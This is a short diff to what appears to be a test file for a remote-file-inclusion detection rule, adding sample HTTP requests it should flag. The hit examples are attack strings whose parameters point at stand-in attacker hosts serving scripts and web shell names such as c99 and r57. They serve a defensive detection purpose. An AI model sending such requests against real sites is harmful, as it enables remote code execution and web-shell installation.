@@ -43,6 +43,9 @@ export default defineRule({
     ...each('GET /a.php?conf=http://evil.example/{}.gif HTTP/1.1', 'r57 cmd byroe fx29'),
     'GET /a.php?conf=http://evil.example/c99.jpg HTTP/1.1',
     'GET /a.php?x=http://203.0.113.9/a.sh HTTP/1.1',
+    'GET /a.php?x=ftp://203.0.113.9/a.sh HTTP/1.1',
+    'GET /index.php?page=https://evil.example/x.txt? HTTP/1.1',
+    'GET /index.php?page=ftps://evil.example/x.txt? HTTP/1.1',
   ],
   misses: [
     'GET /go?url=http://example.org/index.php HTTP/1.1',
